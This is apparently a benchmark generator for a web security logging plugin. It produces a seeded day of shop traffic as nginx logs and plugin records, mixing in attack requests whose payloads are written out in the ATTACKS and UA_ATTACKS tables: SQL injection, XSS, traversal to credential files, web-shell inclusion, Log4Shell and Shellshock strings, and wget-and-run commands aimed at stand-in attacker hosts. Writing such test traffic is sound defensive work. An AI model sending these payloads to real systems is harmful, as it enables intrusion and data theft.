'use strict'

// The traffic bench/cli.js reads: one day of a shop's requests, the same at every run (a seeded generator),
// as nginx `combined` access-log lines and as the plugin's records, flat and ECS. The records are made by the
// plugin's own code from the build under test (record shapes, User-Agent parse, header order, xxhash64, the
// detectors and the impersonation check), so they are what the plugin would have written for these requests.

const fs = require('node:fs')
const path = require('node:path')

const SITE = 'shop.example.com'
// Saturday 14 March 2026 in a fixed zone, +0100 (CET), as nginx writes $time_local.
const ZONE = '+0100'
const ZONE_MINUTES = 60
const DAY_START = Date.UTC(2026, 2, 14) - ZONE_MINUTES * 60_000
const ATTACK_SHARE = 0.03
// One minute (14:23) carries this share of the day on top of its usual rate: a scraper's burst.
const SPIKE_SHARE = 0.005
const SPIKE_MINUTE = 14 * 60 + 23
const FIXTURES = path.join(__dirname, '..', 'test', 'fixtures', 'clients')

/** xorshift32 (Marsaglia, 2003): numbers in [0, 1), the same sequence for the same seed. */
function seeded (seed) {
  let x = (seed >>> 0) || 0x9e3779b9
  return () => {
    x ^= x << 13
    x ^= x >>> 17
    x ^= x << 5
    return (x >>> 0) / 4294967296
  }
}

const int = (r, lo, hi) => lo + Math.floor(r() * (hi - lo + 1))
const pick = (r, list) => list[Math.floor(r() * list.length)]
/** A 16-bit group of an IPv6 address as inet_ntop writes it: no leading zeros. */
const group = (r) => int(r, 1, 0xffff).toString(16)
const hex = (r, digits) => Array.from({ length: digits }, () => '0123456789abcdef'[int(r, 0, 15)]).join('')

/** Draws 0..n-1 with weight 1/(i+1)^s: a few values take most draws, as sources and pages do. */
function zipf (r, n, s) {
  const cdf = new Float64Array(n)
  let sum = 0
  for (let i = 0; i < n; i++) cdf[i] = sum += 1 / Math.pow(i + 1, s)
  return () => {
    const x = r() * sum
    let lo = 0
    let hi = n - 1
    while (lo < hi) {
      const mid = (lo + hi) >> 1
      if (cdf[mid] < x) lo = mid + 1
      else hi = mid
    }
    return lo
  }
}

/** A public-looking IPv4 address (no private, loopback, shared, link-local or multicast first octet), or an IPv6 one in one of `nets` (/64s). */
function address (r, v6Share, nets) {
  if (r() < v6Share) return `${pick(r, nets)}:${group(r)}:${group(r)}:${group(r)}:${group(r)}`
  for (;;) {
    const a = int(r, 1, 223)
    if (![10, 100, 127, 169, 172, 192].includes(a)) return `${a}.${int(r, 0, 255)}.${int(r, 0, 255)}.${int(r, 1, 254)}`
  }
}

const CHROME = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/130.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/129.0.0.0 Safari/537.36',
  'Mozilla/5.0 (Linux; Android 10; K) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Mobile Safari/537.36',
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/131.0.0.0 Safari/537.36 Edg/131.0.0.0',
  'Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) HeadlessChrome/156.0.0.0 Safari/537.36'
]
const FIREFOX = [
  'Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (X11; Linux x86_64; rv:133.0) Gecko/20100101 Firefox/133.0',
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10.15; rv:132.0) Gecko/20100101 Firefox/132.0'
]
const SAFARI = [
  'Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Safari/605.1.15',
  'Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.1 Mobile/15E148 Safari/604.1'
]
const BOTS = [
  'Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)',
  'Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)',
  'Mozilla/5.0 (compatible; AhrefsBot/7.0; +http://ahrefs.com/robot/)'
]
const BROWSER_ACCEPT = 'text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8'

/** A client's requests as the plugin sees them: from a fixture request, or written here from its header names. */
function shape (rawHeaders, ja4, h2, httpVersion) {
  const at = rawHeaders.findIndex((h, i) => i % 2 === 0 && h.toLowerCase() === 'accept')
  return { rawHeaders, ja4, h2, httpVersion, ac: at === -1 ? undefined : rawHeaders[at + 1] }
}

/** A captured client (test/fixtures/clients/<id>.json): the requests at `urls` for a page, an asset and an API call. */
function fixture (id, urls = []) {
  const requests = JSON.parse(fs.readFileSync(path.join(FIXTURES, `${id}.json`), 'utf8')).requests
  const of = (url) => requests.find((q) => q.url === url) ?? requests[0]
  const [page, asset, api] = [of(urls[0]), of(urls[1]), of(urls[2])].map((q) => shape(q.rawHeaders, q.ja4, q.h2, q.httpVersion))
  return { page, asset, api }
}

/** A client written from its header names in order; the same headers for every kind of request. */
function written (names, accept, ja4, h2) {
  const headers = names.flatMap((n) => [n, n === 'accept' ? accept : 'x'])
  const s = shape(headers, ja4, h2, h2 === undefined ? '1.1' : '2.0')
  return { page: s, asset: s, api: s }
}

/**
 * The clients. Chromium, curl, wget, Node, Python and the impostors are the captures in test/fixtures/clients.
 * Firefox, Safari and Go are written from their known header orders, with the JA4 cipher part and HTTP/2
 * pseudo-header order lib/detect/impersonation/profiles.ts cites for them (the other parts of their JA4 are
 * placeholders of the right form); the crawlers' TLS is not known here, so their records carry no JA4.
 */
function clients () {
  const ff = ['user-agent', 'accept', 'accept-language', 'accept-encoding', 'upgrade-insecure-requests', 'sec-fetch-dest', 'sec-fetch-mode', 'sec-fetch-site', 'sec-fetch-user', 'priority', 'te']
  const sf = ['accept', 'sec-fetch-site', 'accept-encoding', 'sec-fetch-mode', 'user-agent', 'accept-language', 'sec-fetch-dest']
  return {
    chrome: { uas: CHROME, ...fixture('chromium-h2', ['/page', '/r/style.css', '/r/fetch']) },
    firefox: { uas: FIREFOX, ...written(ff, BROWSER_ACCEPT, 't13d1717h2_5b57614c22b0_3cbfd9057e0d', '1:65536;2:0;4:131072;5:16384|12517377|0|m,p,a,s') },
    safari: { uas: SAFARI, ...written(sf, BROWSER_ACCEPT, 't13d2014h2_a09f3c656075_14788d8d241b', '2:0;4:4194304;3:100|10485760|0|m,s,p,a') },
    bot: { uas: BOTS, ...written(['host', 'connection', 'accept', 'from', 'user-agent', 'accept-encoding'], BROWSER_ACCEPT) },
    curl: { uas: ['curl/7.88.1'], tools: ['Mozilla/5.00 (Nikto/2.5.0) (Evasions:None) (Test:000001)', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)', 'curl/7.88.1'], ...fixture('curl-h1') },
    python: { uas: ['python-requests/2.34.2'], tools: ['sqlmap/1.8.11#stable (https://sqlmap.org)'], ...fixture('python-requests') },
    go: { uas: ['Go-http-client/1.1'], tools: ['Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0.0.0 Safari/537.36 Nuclei', 'Mozilla/5.0 zgrab/0.x', 'Go-http-client/1.1'], ...written(['host', 'user-agent', 'accept-encoding'], undefined, 't13d1311h1_9dc949149365_e7c285222651') },
    wget: { uas: ['Wget/1.21.3'], ...fixture('wget') },
    node: { uas: ['node'], ...fixture('node-fetch') },
    impostor: { uas: [CHROME[0]], ...fixture('impostor-curl-chrome-ua-h1') }
  }
}
const CLIENTS = clients()

// How the day's visitors split over clients (the attackers' tools are apart).
const CLIENT_SHARES = [['chrome', 0.58], ['safari', 0.17], ['firefox', 0.1], ['bot', 0.08], ['curl', 0.02], ['python', 0.02], ['go', 0.01], ['wget', 0.01], ['node', 0.01]]
// An attacker's tool: the client it runs on and the attacks it sends.
const KITS = [
  ['python', ['sqli']], ['curl', ['scanner', 'traversal', 'xss', 'env', 'rfi']], ['go', ['env', 'traversal', 'rce', 'scanner', 'sqli']],
  ['go', ['scanner', 'env']], ['curl', ['env', 'traversal', 'rce', 'rfi']], ['impostor', ['sqli', 'xss', 'traversal', 'env']]
]
const WORDS = ['shoes', 'red', 'jacket', 'wool', 'summer', 'dress', 'kids', 'boots', 'leather', 'bag', 'linen', 'shirt', 'sale', 'blue', 'running', 'hat', 'scarf', 'organic', 'cotton', 'gift', 'men', 'women', 'black', 'vintage']
const EVIL = ['evil.example.net', '198.51.100.23', 'files.attacker.test', 'x.example.org']

/** Attack requests, one shape per kind, the details drawn. */
const ATTACKS = {
  sqli: (r) => pick(r, [
    `/products?id=${int(r, 1, 9999)}%27%20OR%20%271%27=%271`, `/search?q=${pick(r, WORDS)}%27%20UNION%20SELECT%20username,password%20FROM%20users--%20-`,
    `/item.php?id=${int(r, 1, 500)}%20AND%20SLEEP(5)`, `/api/v1/items?sort=name;DROP%20TABLE%20orders--`, `/login?user=admin%27--&pass=${hex(r, 6)}`,
    `/category?id=-${int(r, 1, 99)}+UNION+ALL+SELECT+NULL,CONCAT(0x71,version(),0x71),NULL--+-`]),
  xss: (r) => pick(r, [
    `/search?q=%3Cscript%3Ealert(${int(r, 1, 999)})%3C/script%3E`, `/comment?text=%22%3E%3Cimg%20src=x%20onerror=alert(document.cookie)%3E`,
    `/redirect?url=javascript:alert(${int(r, 1, 9)})`, `/search?q=<svg/onload=confirm(${int(r, 1, 9)})>`, `/profile?name="><script src=//${pick(r, EVIL)}/x.js></script>`]),
  traversal: (r) => pick(r, [
    `/download?file=${'../'.repeat(int(r, 3, 8))}etc/passwd`, '/static/..%2f..%2f..%2f..%2fetc%2fshadow', '/images/....//....//....//etc/passwd',
    `/view?page=${'..%5c'.repeat(int(r, 2, 6))}windows%5cwin.ini`, '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd']),
  rfi: (r) => pick(r, [
    `/index.php?page=http://${pick(r, EVIL)}/shell.txt?`, `/include.php?file=https://${pick(r, EVIL)}/r57.txt%00`, `/main.php?module=ftp://${pick(r, EVIL)}/c99.php`]),
  scanner: (r) => pick(r, [
    '/wp-login.php', '/wp-admin/setup-config.php', '/phpmyadmin/index.php', '/.git/config', '/server-status', '/actuator/env', '/HNAP1/',
    '/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php', '/cgi-bin/luci/;stok=/locale', '/boaform/admin/formLogin']),
  env: (r) => pick(r, ['/.env', '/.env.production', '/api/.env', '/app/.env', '/laravel/.env', '/.aws/credentials', '/.env.bak', '/backend/.env', '/docker/.env']),
  rce: (r) => pick(r, [
    '/cgi-bin/status?cmd=;cat%20/etc/passwd', `/api/ping?host=127.0.0.1%7Cid`, `/shell?cd+/tmp;wget+http://${pick(r, EVIL)}/x.sh;sh+x.sh`,
    '/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=system&vars[1][]=id'])
}
// Attacks carried in the User-Agent rather than the URL.
const UA_ATTACKS = [(r) => `\${jndi:ldap://${pick(r, EVIL)}:1389/a}`, (r) => `() { :; }; /bin/bash -c "wget http://${pick(r, EVIL)}/x"`]

/** The site's pages: a few hundred paths; some take a query string drawn at each request. */
function sitePages (r) {
  const page = (p, kind = 'page', query) => ({ path: p, kind, query })
  const pages = ['/', '/about', '/contact', '/faq', '/cart', '/checkout', '/account', '/account/orders', '/robots.txt', '/sitemap.xml'].map((p) => page(p))
  pages.splice(1, 0, page('/search', 'page', () => `?q=${pick(r, WORDS)}+${pick(r, WORDS)}${r() < 0.3 ? `&page=${int(r, 2, 6)}` : ''}`))
  pages.push(page('/login', 'form'), page('/api/v1/cart', 'api'), page('/api/v1/stock', 'api', () => `?ids=${int(r, 1000, 9999)},${int(r, 1000, 9999)}`))
  for (let i = 0; i < 40; i++) pages.push(page(`/static/${pick(r, ['js/app', 'js/vendor', 'css/main', 'css/print'])}.${hex(r, 8)}.${i % 2 ? 'css' : 'js'}`, 'asset'))
  for (let i = 0; i < 20; i++) pages.push(page(`/category/${pick(r, WORDS)}-${pick(r, WORDS)}`, 'page', () => r() < 0.5 ? `?sort=${pick(r, ['price', 'new', 'name'])}&page=${int(r, 1, 8)}` : ''))
  for (let i = 0; i < 150; i++) {
    const id = int(r, 1000, 9999)
    pages.push(page(`/products/${id}-${pick(r, WORDS)}-${pick(r, WORDS)}`, 'page', () => r() < 0.2 ? `?variant=${pick(r, ['red', 'blue', 'black', 's', 'm', 'l'])}` : ''))
    if (i % 3 === 0) pages.push(page(`/images/products/${id}-${int(r, 1, 4)}.jpg`, 'asset'))
  }
  for (let i = 0; i < 40; i++) pages.push(page(`/blog/2026/${pick(r, WORDS)}-${pick(r, WORDS)}-${i}`, 'page', () => r() < 0.05 ? `?utm_source=newsletter&utm_medium=email&utm_campaign=${pick(r, WORDS)}-${int(r, 1, 12)}` : ''))
  return pages
}

/** The request's status and body bytes, as the site would have answered. */
function answer (r, kind, attack, method) {
  if (attack) {
    const x = r()
    const status = x < 0.35 ? 403 : x < 0.7 ? 404 : x < 0.78 ? 400 : x < 0.95 ? 200 : 500
    return [status, status === 200 ? int(r, 2000, 30000) : status === 500 ? 177 : 153]
  }
  const x = r()
  if (method === 'POST') return x < 0.7 ? [302, 0] : x < 0.9 ? [200, int(r, 200, 2000)] : [401, 64]
  if (x < 0.004) return [500, 177]
  if (x < 0.03) return [404, 153]
  if (x < (kind === 'asset' ? 0.35 : 0.1)) return [304, 0]
  return [200, kind === 'asset' ? int(r, 20_000, 300_000) : kind === 'api' ? int(r, 100, 4000) : int(r, 8000, 90_000)]
}

/**
 * The day's requests, in time order: `lines` of them over 1,440 minutes at a rate that follows the day
 * (lowest at 04:00, highest at 16:00), attacks from their own sources at ATTACK_SHARE, and one minute's spike.
 */
function * requests (lines, seed) {
  const r = seeded(seed)
  const nets = Array.from({ length: 300 }, () => `2a0${int(r, 1, 9)}:${group(r)}:${group(r)}:${group(r)}`)
  const clientOf = (x) => CLIENT_SHARES.find(([, share]) => (x -= share) < 0)?.[0] ?? 'chrome'
  const visitors = Array.from({ length: 4000 }, () => {
    const client = clientOf(r())
    return { ip: address(r, 0.12, nets), client, ua: pick(r, CLIENTS[client].uas), kinds: ['sqli', 'xss'] }
  })
  const attackers = Array.from({ length: 60 }, () => {
    const [client, kinds] = pick(r, KITS)
    return { ip: address(r, 0.15, nets), client, ua: pick(r, CLIENTS[client].tools ?? CLIENTS[client].uas), kinds }
  })
  const scrapers = Array.from({ length: 20 }, () => address(r, 0, nets))
  const pages = sitePages(r)
  const products = pages.filter((p) => p.path.startsWith('/products/'))
  const visitor = zipf(r, visitors.length, 1.05)
  const attacker = zipf(r, attackers.length, 0.9)
  const pageOf = zipf(r, pages.length, 1.1)
  const weights = Array.from({ length: 1440 }, (_, m) => 1 - 0.7 * Math.cos(2 * Math.PI * (m - 240) / 1440))
  const total = weights.reduce((a, b) => a + b, 0)
  const spike = Math.round(lines * SPIKE_SHARE)
  const perMinute = weights.map((w) => Math.floor((lines - spike) * w / total))
  perMinute[SPIKE_MINUTE] += spike
  for (let left = lines - perMinute.reduce((a, b) => a + b, 0), m = 0; left > 0; left--, m++) perMinute[m]++
  for (let m = 0; m < 1440; m++) {
    const k = perMinute[m]
    const times = new Float64Array(k).map(() => DAY_START + m * 60_000 + Math.floor(r() * 60_000)).sort()
    for (let i = 0; i < k; i++) {
      const time = times[i]
      if (m === SPIKE_MINUTE && r() < spike / k) {
        const p = pick(r, products)
        yield { time, ip: pick(r, scrapers), client: 'python', ua: 'python-requests/2.34.2', method: 'GET', url: p.path, kind: p.kind, referer: undefined, attack: undefined, status: 200, bytes: int(r, 8000, 90_000) }
        continue
      }
      if (r() < ATTACK_SHARE) {
        // Most attacks come from the attackers' few addresses; some from a visitor (a search box tried).
        const who = r() < 0.9 ? attackers[attacker()] : visitors[visitor()]
        const kind = pick(r, who.kinds)
        const inUa = r() < 0.06
        const [status, bytes] = answer(r, 'page', true, 'GET')
        yield { time, ip: who.ip, client: who.client, ua: inUa ? pick(r, UA_ATTACKS)(r) : who.ua, method: r() < 0.9 ? 'GET' : 'POST', url: inUa ? '/' : ATTACKS[kind](r), kind: 'page', referer: undefined, attack: inUa ? 'rce' : kind, status, bytes }
        continue
      }
      const v = visitors[visitor()]
      const p = pages[pageOf()]
      const method = p.kind === 'form' && r() < 0.5 ? 'POST' : 'GET'
      const [status, bytes] = answer(r, p.kind, false, method)
      const x = r()
      const referer = x < 0.35 ? undefined : x < 0.8 ? `https://${SITE}${pages[int(r, 0, 30)].path}` : x < 0.95 ? 'https://www.google.com/' : pick(r, ['https://www.bing.com/', 'https://l.facebook.com/', 'android-app://com.google.android.gm/'])
      let url = p.path + (p.query === undefined ? '' : p.query())
      // Click ids make URLs that are seen once: the share of URLs the CLI's cache cannot answer.
      if (p.kind === 'page' && r() < 0.03) url += `${url.includes('?') ? '&' : '?'}${r() < 0.7 ? 'gclid' : 'fbclid'}=${hex(r, 24)}`
      yield { time, ip: v.ip, client: v.client, ua: v.ua, method, url, kind: p.kind, referer, attack: undefined, status, bytes }
    }
  }
}

/** nginx's escaping of logged variables: `"`, `\` and bytes outside printable ASCII as \xHH. */
function nginxEscape (s) {
  return s.replace(/[\x00-\x1f"\\\x7f-\uffff]/g, (c) => [...Buffer.from(c)].map((b) => '\\x' + b.toString(16).toUpperCase().padStart(2, '0')).join(''))
}

/** `14/Mar/2026:14:23:05 +0100`: toUTCString's `Sat, 14 Mar 2026 14:23:05 GMT` of the local time, reordered. */
function logTime (ms) {
  const [, day, month, year, time] = new Date(ms + ZONE_MINUTES * 60_000).toUTCString().split(' ')
  return `${day}/${month}/${year}:${time} ${ZONE}`
}

/** The client's requests for this kind of page: a navigation, a subresource, or a script's call. */
const shapeOf = (q) => CLIENTS[q.client][q.kind === 'asset' ? 'asset' : q.kind === 'api' ? 'api' : 'page']

/** The request as nginx's `combined` format logs it. */
function accessLine (q) {
  const protocol = shapeOf(q).httpVersion === '2.0' ? 'HTTP/2.0' : 'HTTP/1.1'
  return `${q.ip} - - [${logTime(q.time)}] "${q.method} ${nginxEscape(q.url)} ${protocol}" ${q.status} ${q.bytes} "${q.referer === undefined ? '-' : nginxEscape(q.referer)}" "${nginxEscape(q.ua)}"\n`
}

const BLOCKED = Object.freeze({ action: 'blocked', monitor: false, by: 'rule', id: 'block-attacks' })

/**
 * Record lines for requests, flat and ECS, with the plugin's code from `dist`: what its writer hands to pino
 * (level, time, pid, hostname, the record's members, msg) with the default settings but `logQuery`.
 */
async function recordLines (dist, seed) {
  const load = (file) => require(path.resolve(dist, file))
  const { createFlatRecord, createEcsRecord } = load('ship/record.js')
  const { createDetection, threatScore } = load('detect/index.js')
  const { createImpersonation } = load('detect/impersonation/index.js')
  const hash64 = await load('fingerprint/hash.js').loadHash64()
  const fingerprint = load('fingerprint/user-agent.js').createUserAgentFingerprinter(4096, hash64)
  const headerOrder = load('fingerprint/header-order.js').createHeaderOrder()
  const settings = { serviceName: 'shop', maskIp: (a) => a, maxValueLength: 2048, logQuery: true, onFieldError: (err) => { throw err } }
  const flat = createFlatRecord(settings)
  const ecs = createEcsRecord(settings)
  const detection = createDetection({ paranoia: 1, disable: [], bodyLimit: 65536, userAgentCacheSize: 4096 })
  const impersonation = createImpersonation({ paranoia: 1, disable: [], learn: false, maxFamilies: 64 })
  const r = seeded(seed ^ 0x5bd1e995)
  let id = 0
  return (q) => {
    const s = shapeOf(q)
    s.ho ??= headerOrder(s.rawHeaders)
    const { uah, uai } = fingerprint(q.ua)
    const threats = detection.request({ url: q.url, headers: { 'user-agent': q.ua, accept: s.ac, referer: q.referer } })
    const claimed = impersonation.check({ ua: q.ua, uai, rawHeaders: s.rawHeaders, ho: s.ho, ac: s.ac, ja4: s.ja4, h2: s.h2, httpVersion: s.httpVersion })
    if (claimed !== undefined) threats.push(claimed)
    const score = threatScore(threats)
    const tls = s.ja4 !== undefined
    const at = q.url.indexOf('?')
    const info = {
      serviceName: 'shop', ip: q.ip, realIp: q.ip, ips: [], reqId: `req-${(++id).toString(36)}`, method: q.method,
      path: at === -1 ? q.url : q.url.slice(0, at), query: at === -1 ? undefined : q.url.slice(at + 1), host: SITE, referer: q.referer,
      ua: q.ua, uah, uai, ssl: undefined, sslh: undefined, ja4: s.ja4, h2: s.h2, fingerprintSource: tls ? 'socket' : undefined,
      sni: tls ? SITE : undefined, alpn: tls ? (s.h2 === undefined ? 'http/1.1' : 'h2') : undefined, tlsVersion: tls ? '1.3' : undefined,
      ac: s.ac, ach: s.ac === undefined ? undefined : hash64(s.ac), ho: s.ho, hoh: hash64(s.ho), threats, threatScore: score,
      decision: score >= 5 && q.status === 403 ? BLOCKED : undefined, status: q.status, responseTime: Math.round(r() * r() * 800_000) / 1000,
      aborted: false, user: undefined, mfa: undefined, captcha: undefined, custom: {}
    }
    const head = `{"level":30,"time":${q.time},"pid":4242,"hostname":"web-1",`
    const tail = ',"msg":"request completed"}\n'
    return { flat: head + flat(info) + tail, ecs: head + ecs(info) + tail }
  }
}

module.exports = { requests, accessLine, recordLines }
